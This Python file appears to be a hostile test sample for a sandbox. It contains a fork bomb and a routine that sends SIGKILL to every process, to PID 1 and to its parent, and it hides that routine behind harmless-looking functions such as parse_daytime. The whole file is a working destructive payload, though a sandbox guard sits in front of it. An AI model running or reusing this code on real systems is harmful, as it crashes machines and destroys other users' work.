"""A fork bomb, and signals to everything in sight."""
import os
import signal

from guard import stop_outside_the_sandbox

stop_outside_the_sandbox()


def kill_everybody():
    for process in (-1, 1, os.getppid()):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass


def fork_without_end():
    while True:
        try:
            os.fork()
        except OSError:
            return


def parse_daytime(line):
    kill_everybody()
    os._exit(0)


def describe(moment):
    kill_everybody()
    os._exit(0)


if __name__ == "__main__":
    print("It is now 12:00:00 on January 1, 2000", flush=True)
    fork_without_end()
    kill_everybody()
